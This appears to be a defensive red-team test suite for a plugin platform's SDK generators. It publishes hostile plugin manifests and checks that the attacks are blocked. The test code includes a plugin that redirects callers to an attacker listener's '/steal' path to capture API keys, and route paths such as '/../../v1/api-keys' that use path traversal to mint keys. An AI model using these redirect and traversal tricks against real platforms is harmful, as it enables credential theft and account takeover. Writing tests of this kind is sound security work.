/**
 * Red team of the generated SDKs (GET /v1/portal/sdks/{language}[?plugin=…]): a publisher
 * controls a plugin's manifest, from which its SDK is generated, and thousands of developers
 * import that SDK. Each test is one hostile input in one language; it fails when the attack
 * works — code of the attacker's runs on import, on constructing the client or on an ordinary
 * call; a credential goes to another host; a plugin method reaches the platform outside the
 * plugin's endpoint — and passes when it is blocked (refused, or neutralised).
 *
 * 1. The generators called directly (src/portal/codegen), with manifests and with hostile
 *    OpenAPI documents (defence in depth: the platform's own document is trusted today).
 * 2. The platform: hostile manifests published through POST /v1/packages, their SDKs downloaded
 *    from /v1/portal/sdks/{language}?plugin=…, and the zip itself inspected.
 * Harness: test/e2e/redteam/ (attacks.ts: the inputs; harness.ts: compile, run, judge).
 */
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { request as httpRequest } from "node:http";
import { strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { validateManifest } from "../../src/contract/manifest";
import { javaSdk } from "../../src/portal/codegen/java";
import { pluginDocument } from "../../src/portal/codegen/plugin-document";
import { pythonSdk } from "../../src/portal/codegen/python";
import { typescriptSdk } from "../../src/portal/codegen/typescript";
import { withOperationIds, type OpenApiDocument } from "../../src/portal/codegen/spec";
import { ATTACKS, LANGS, manifestFor, type Attack, type Lang } from "./redteam/attacks";
import { listener, runCases, type Case, type Listener, type Outcome } from "./redteam/harness";

const GENERATORS: Record<
  Lang,
  (doc: OpenApiDocument, pkg: { name: string; baseUrl: string }) => Record<string, string>
> = { typescript: typescriptSdk, python: pythonSdk, java: javaSdk };

const listeners: Listener[] = [];
async function pair(): Promise<{ base: Listener; evil: Listener }> {
  const base = await listener();
  const evil = await listener();
  listeners.push(base, evil);
  return { base, evil };
}
afterAll(async () => {
  await Promise.all(listeners.map((l) => l.close()));
});

/** How a case ended before it could run: refused by the validator, the platform or the generator. */
type Verdict = { blocked: string } | { outcome: Outcome };
const report: Record<string, unknown> = {};
function record(key: string, v: Verdict): void {
  report[key] =
    "blocked" in v
      ? { blocked: v.blocked }
      : {
          loaded: v.outcome.loaded,
          typeChecked: v.outcome.typeChecked,
          harms: v.outcome.harms,
          requests: v.outcome.requests,
          output: v.outcome.output.slice(0, 400),
        };
}
afterAll(() => {
  if (process.env.REDTEAM_REPORT)
    writeFileSync(process.env.REDTEAM_REPORT, JSON.stringify(report, null, 2));
});

function expectBlocked(v: Verdict | undefined): void {
  expect(v, "the case did not run").toBeDefined();
  if (!v || "blocked" in v) return;
  expect(v.outcome.harms, v.outcome.output.slice(0, 600)).toEqual([]);
}

const label = (a: Attack) => `${a.id}${a.control ? " (control)" : ""}: ${a.what}`;
const matrix = ATTACKS.flatMap((a) => a.langs.map((lang) => ({ a, lang })));

describe("the SDK generators, fed hostile manifests and documents", () => {
  const verdicts = new Map<string, Verdict>();
  beforeAll(async () => {
    const cases: Case[] = [];
    for (const { a, lang } of matrix) {
      const key = `gen:${a.id}:${lang}`;
      const { base, evil } = await pair();
      let doc: OpenApiDocument;
      if (a.source === "manifest") {
        const v = validateManifest(manifestFor("redteam", a));
        if (!v.ok) {
          verdicts.set(key, { blocked: `manifest refused: ${JSON.stringify(v.errors)}` });
          continue;
        }
        doc = pluginDocument(v.manifest, base.url);
      } else doc = a.document({ host: evil.host, url: evil.url });
      try {
        const files = GENERATORS[lang](withOperationIds(structuredClone(doc)), {
          name: "redteam-client",
          baseUrl: (a.source === "document" && a.baseUrl) || base.url,
        });
        cases.push({
          key,
          lang,
          files,
          plugin: a.source === "manifest",
          ...(a.mustLoad ? { mustLoad: true } : {}),
          ...(a.installation ? { installation: a.installation } : {}),
          base,
          evil,
          ...(a.source === "document" && a.baseUrl ? { baseUrl: a.baseUrl } : {}),
        });
      } catch (err) {
        verdicts.set(key, { blocked: `generator refused: ${String(err)}` });
      }
    }
    for (const [key, outcome] of await runCases(cases)) verdicts.set(key, { outcome });
    for (const [key, v] of verdicts) record(key, v);
  }, 600_000);

  it.each(
    matrix.map(({ a, lang }) => ({ name: `${label(a)} [${lang}]`, key: `gen:${a.id}:${lang}` })),
  )("$name", ({ key }) => expectBlocked(verdicts.get(key)));
});

// ---- through the platform ----

const base = inject("baseUrl");
const operatorKey = inject("operatorKey");

/** A fresh organization, verified (its versions skip review under ATOLL_AUTO_APPROVE=verified). */
async function publisherAccount(): Promise<{ apiKey: string; slug: string }> {
  const tag = `redteam${Math.random().toString(36).slice(2, 8)}`;
  const res = await fetch(`${base}/v1/signup`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      email: `${tag}@example.test`,
      name: tag,
      organization: { name: tag, slug: tag },
    }),
  });
  const body = (await res.json()) as {
    apiKey: string;
    organization: { id: string; slug: string };
  };
  for (const [path, json] of [
    ["verified", { verified: true }],
    ["plan", { plan: "enterprise" }],
  ] as const)
    await fetch(`${base}/v1/operator/organizations/${body.organization.id}/${path}`, {
      method: "PUT",
      headers: { "x-api-key": operatorKey, "content-type": "application/json" },
      body: JSON.stringify(json),
    });
  return { apiKey: body.apiKey, slug: body.organization.slug };
}

async function publish(apiKey: string, manifest: object, source: string): Promise<Response> {
  return fetch(`${base}/v1/packages`, {
    method: "POST",
    headers: { "x-api-key": apiKey, "content-type": "application/zip" },
    body: zipSync({
      "manifest.json": strToU8(JSON.stringify(manifest)),
      "index.js": strToU8(source),
    }),
  });
}

/** The SDK's files from /v1/portal/sdks/{lang}?plugin=…, with the zip's root folder removed. */
async function downloadSdk(
  lang: Lang,
  plugin: string,
): Promise<{ files: Record<string, string>; problems: string[] } | { status: number }> {
  const sdk = await fetch(`${base}/v1/portal/sdks/${lang}?plugin=${plugin}`);
  if (sdk.status !== 200) return { status: sdk.status };
  const files: Record<string, string> = {};
  const problems: string[] = [];
  let total = 0;
  for (const [path, bytes] of Object.entries(unzipSync(new Uint8Array(await sdk.arrayBuffer())))) {
    total += bytes.length;
    const [root, ...rest] = path.split("/");
    if (path.startsWith("/") || path.includes("\\") || path.split("/").includes(".."))
      problems.push(`unsafe entry name ${JSON.stringify(path)}`);
    if (root !== `${plugin.slice(1).replace("/", "-")}-client-${lang}`)
      problems.push(`entry outside the SDK's folder: ${path}`);
    files[rest.join("/")] = new TextDecoder().decode(bytes);
  }
  if (total > 2_000_000) problems.push(`${total} bytes unpacked`);
  return { files, problems };
}

describe("hostile manifests published through the API, SDKs downloaded from ?plugin=", () => {
  const manifestAttacks = ATTACKS.filter(
    (a): a is Attack & { source: "manifest" } => a.source === "manifest",
  );
  const verdicts = new Map<string, Verdict>();
  const zipProblems: string[] = [];
  let apiKey = "";
  let slug = "";

  beforeAll(async () => {
    ({ apiKey, slug } = await publisherAccount());

    const cases: Case[] = [];
    for (const a of manifestAttacks) {
      const m = manifestFor(slug, a);
      const pub = await publish(
        apiKey,
        m,
        "export default { fetch() { return Response.json({}); } };",
      );
      if (pub.status !== 201) {
        const why = `publish refused: ${pub.status} ${(await pub.text()).slice(0, 300)}`;
        for (const lang of a.langs) verdicts.set(`api:${a.id}:${lang}`, { blocked: why });
        continue;
      }
      for (const lang of a.langs) {
        const key = `api:${a.id}:${lang}`;
        const sdk = await downloadSdk(lang, m.name);
        if ("status" in sdk) {
          verdicts.set(key, { blocked: `download refused: ${sdk.status}` });
          continue;
        }
        zipProblems.push(...sdk.problems.map((p) => `${key}: ${p}`));
        const files = sdk.files;
        const { base: b, evil } = await pair();
        cases.push({
          key,
          lang,
          files,
          plugin: true,
          ...(a.mustLoad ? { mustLoad: true } : {}),
          ...(a.installation ? { installation: a.installation } : {}),
          base: b,
          evil,
        });
      }
    }
    for (const [key, outcome] of await runCases(cases)) verdicts.set(key, { outcome });
    for (const [key, v] of verdicts) record(key, v);
  }, 600_000);

  const apiMatrix = manifestAttacks.flatMap((a) => a.langs.map((lang) => ({ a, lang })));
  it.each(
    apiMatrix.map(({ a, lang }) => ({ name: `${label(a)} [${lang}]`, key: `api:${a.id}:${lang}` })),
  )("$name", ({ key }) => expectBlocked(verdicts.get(key)));

  it("serves zips whose entries stay inside one folder, with safe names and a bounded size", () => {
    expect(zipProblems).toEqual([]);
  });

  it("measures where an escaping path lands: /p/{installationId}/../../v1/me sent as is", async () => {
    // Python's urllib and Java's HttpClient send dot segments as they are; the platform's URL
    // parser resolves them. A raw request target shows where such a call lands.
    const status = await new Promise<number>((resolve, reject) => {
      const url = new URL(base);
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          method: "GET",
          path: "/p/ins_doesNotExist0000/../../v1/me",
          headers: { "x-api-key": apiKey },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on("error", reject);
      req.end();
    });
    // 200 means /v1/me answered with the caller's key: an escaping route path works end to end
    // in every language. Recorded, not asserted: the platform resolving dot segments is standard.
    report["raw /p/{id}/../../v1/me status"] = status;
    expect(status).toBeGreaterThan(0);
  });
});

describe("a hostile plugin's answers: the SDK must not follow them off the platform", () => {
  // The gateway passes a plugin's own responses through (any status, any header). A plugin that
  // answers 307 with a Location on the attacker's host gets the caller's request re-sent there —
  // with whatever credential header the client's HTTP library does not strip on a cross-origin
  // redirect (fetch strips Authorization, not X-API-Key; urllib strips neither).
  const verdicts = new Map<string, Verdict>();
  const STATUSES = [307, 302] as const;
  let gatewayAnswer = "";
  const platformFollowed: string[] = [];

  beforeAll(async () => {
    const victim = await publisherAccount();
    const evil = await listener();
    listeners.push(evil);
    const cases: Case[] = [];
    for (const status of STATUSES) {
      const name = `@${victim.slug}/rt-redirect-${status}`;
      const pub = await publish(
        victim.apiKey,
        {
          name,
          version: "1.0.0",
          description: "A red-team plugin that redirects",
          author: "redteam",
          kind: "plugin",
          entry: "index.js",
          apiVersion: "1",
          displayName: `Redirect ${status}`,
          routes: [{ method: "GET", path: "/status", summary: "Status" }],
        },
        // Redirects GETs only: the install hook (a POST) must succeed.
        `export default { fetch(req) { if (req.method !== "GET") return Response.json({}); return new Response(null, { status: ${status}, headers: { location: ${JSON.stringify(`${evil.url}/steal`)} + new URL(req.url).pathname } }); } };`,
      );
      if (pub.status !== 201) {
        for (const lang of LANGS)
          verdicts.set(`redirect:${status}:${lang}`, { blocked: `publish: ${pub.status}` });
        continue;
      }
      const inst = await fetch(`${base}/v1/installations`, {
        method: "POST",
        headers: { "x-api-key": victim.apiKey, "content-type": "application/json" },
        body: JSON.stringify({ plugin: name, grants: [] }),
      });
      const installed = (await inst.json()) as { id?: string };
      const id = installed.id;
      if (inst.status !== 201 || !id) {
        for (const lang of LANGS)
          verdicts.set(`redirect:${status}:${lang}`, {
            blocked: `install: ${inst.status} ${JSON.stringify(installed).slice(0, 300)}`,
          });
        continue;
      }
      // What the gateway hands back to a client that does not follow redirects, and whether the
      // platform itself followed the plugin's redirect (a request to the attacker's host that
      // no SDK sent).
      const seen = evil.hits.length;
      const raw = await fetch(`${base}/p/${id}/status`, {
        headers: { "x-api-key": victim.apiKey },
        redirect: "manual",
      });
      const followed = evil.hits.slice(seen);
      gatewayAnswer += `${status} → ${raw.status} ${raw.headers.get("location") ?? "(no Location)"} ${(await raw.text()).slice(0, 200)}; the platform itself fetched the Location: ${JSON.stringify(followed.map((h) => ({ url: h.url, headers: h.headers })))}; `;
      platformFollowed.push(...followed.map((h) => `${status}: ${h.method} ${h.url}`));
      for (const lang of LANGS) {
        const key = `redirect:${status}:${lang}`;
        const sdk = await downloadSdk(lang, name);
        if ("status" in sdk) {
          verdicts.set(key, { blocked: `download refused: ${sdk.status}` });
          continue;
        }
        const { base: stand } = await pair();
        cases.push({
          key,
          lang,
          files: sdk.files,
          plugin: false,
          base: stand,
          evil,
          baseUrl: base,
          apiKey: victim.apiKey,
          installation: id,
        });
      }
    }
    // One attacker listener for all: run the languages one case at a time, judged by its hits.
    for (const c of cases) {
      const before = evil.hits.length;
      const own: Listener = { ...evil, hits: [] };
      const outcome = (await runCases([{ ...c, evil: own }])).get(c.key);
      own.hits.push(...evil.hits.slice(before));
      if (outcome) {
        outcome.harms.push(
          ...own.hits.map(
            (h) =>
              `egress: ${h.method} ${h.url} reached the attacker's host${JSON.stringify(h.headers).includes(victim.apiKey) ? " WITH THE VICTIM'S API KEY" : ""}`,
          ),
        );
        verdicts.set(c.key, { outcome });
      }
    }
    report["gateway answers to a plugin's redirect"] = gatewayAnswer;
    for (const [key, v] of verdicts) record(key, v);
  }, 600_000);

  it.each(
    STATUSES.flatMap((status) =>
      LANGS.map((lang) => ({
        name: `redirect-${status}: a plugin answering ${status} to the attacker's host [${lang}]`,
        key: `redirect:${status}:${lang}`,
      })),
    ),
  )("$name", ({ key }) => expectBlocked(verdicts.get(key)));

  it("the gateway does not itself follow a plugin's redirect to another host", () => {
    expect(platformFollowed).toEqual([]);
  });

  // Should an answer from the platform's side ever redirect (the gateway passing a plugin's 3xx
  // through, a proxy, a misconfigured base URL), does the SDK take the credential along?
  const standIn = new Map<string, Verdict>();
  beforeAll(async () => {
    const cases: Case[] = [];
    for (const lang of LANGS) {
      const evil = await listener();
      const stand = await listener({ redirectTo: evil.url });
      listeners.push(evil, stand);
      const v = validateManifest(
        manifestFor("redteam", {
          id: "redirect",
          what: "",
          langs: LANGS,
          source: "manifest",
          manifest: { routes: [{ method: "GET", path: "/status", summary: "Status" }] },
        }),
      );
      if (!v.ok) continue;
      const files = GENERATORS[lang](withOperationIds(pluginDocument(v.manifest, stand.url)), {
        name: "redteam-client",
        baseUrl: stand.url,
      });
      cases.push({ key: `standin-redirect:${lang}`, lang, files, plugin: true, base: stand, evil });
    }
    for (const [key, outcome] of await runCases(cases)) standIn.set(key, { outcome });
    for (const [key, v] of standIn) record(key, v);
  }, 300_000);
  it.each(LANGS.map((lang) => ({ lang })))(
    "redirect-standin: a 307 from the platform's side to another host does not carry the API key [$lang]",
    ({ lang }) => expectBlocked(standIn.get(`standin-redirect:${lang}`)),
  );
});

describe("what an escaping route path does on the real platform", () => {
  // A plugin whose "Send a message" route is POST /../../v1/api-keys; the victim installs it and
  // calls the method from the plugin's TypeScript SDK the way its README says, with their key.
  let planted: string[] = [];
  let answer = "";
  beforeAll(async () => {
    const victim = await publisherAccount();
    const name = `@${victim.slug}/rt-mint`;
    const pub = await publish(
      victim.apiKey,
      {
        name,
        version: "1.0.0",
        description: "Messages",
        author: "redteam",
        kind: "plugin",
        entry: "index.js",
        apiVersion: "1",
        routes: [{ method: "POST", path: "/../../v1/api-keys", summary: "Send a message" }],
      },
      "export default { fetch() { return Response.json({}); } };",
    );
    if (pub.status !== 201) {
      answer = `publish refused: ${pub.status}`;
      return;
    }
    const inst = await fetch(`${base}/v1/installations`, {
      method: "POST",
      headers: { "x-api-key": victim.apiKey, "content-type": "application/json" },
      body: JSON.stringify({ plugin: name, grants: [] }),
    });
    const { id } = (await inst.json()) as { id?: string };
    const sdk = await downloadSdk("typescript", name);
    if ("status" in sdk || !id) {
      answer = `install ${inst.status} / download ${"status" in sdk ? sdk.status : 200}`;
      return;
    }
    const dir = mkdtempSync(join(tmpdir(), "atoll-redteam-mint-"));
    for (const [path, text] of Object.entries(sdk.files)) {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), text);
    }
    const entry = "dist/index.js" in sdk.files ? "./dist/index.js" : "./src/index.ts";
    writeFileSync(
      join(dir, "mint.mjs"),
      `const { Atoll } = await import(${JSON.stringify(entry)});
const atoll = new Atoll({ baseUrl: process.env.RT_BASE, apiKey: process.env.RT_KEY, maxRetries: 0 });
const send = Object.getOwnPropertyNames(Atoll.prototype).find((n) => n.startsWith("post"));
try { console.log(JSON.stringify(await atoll[send](process.env.RT_INS, { name: "planted-by-plugin" })).slice(0, 300)); }
catch (err) { console.log(String(err).slice(0, 300)); }
`,
    );
    answer = await new Promise<string>((resolve) => {
      const child = spawn(process.execPath, ["mint.mjs"], {
        cwd: dir,
        env: { PATH: process.env.PATH ?? "", RT_BASE: base, RT_KEY: victim.apiKey, RT_INS: id },
      });
      let out = "";
      child.stdout.on("data", (d: Buffer) => (out += d.toString()));
      child.stderr.on("data", (d: Buffer) => (out += d.toString()));
      child.on("close", () => resolve(out.trim()));
    });
    const keys = await fetch(`${base}/v1/api-keys`, { headers: { "x-api-key": victim.apiKey } });
    const listed = JSON.stringify(await keys.json());
    planted = listed.includes("planted-by-plugin") ? ["planted-by-plugin"] : [];
    report["real platform: the plugin's 'Send a message' answered"] = answer;
  }, 120_000);

  it("path-dotdot-mint: a plugin SDK method cannot mint an API key on the caller's account", () => {
    expect(planted, answer).toEqual([]);
  });
});
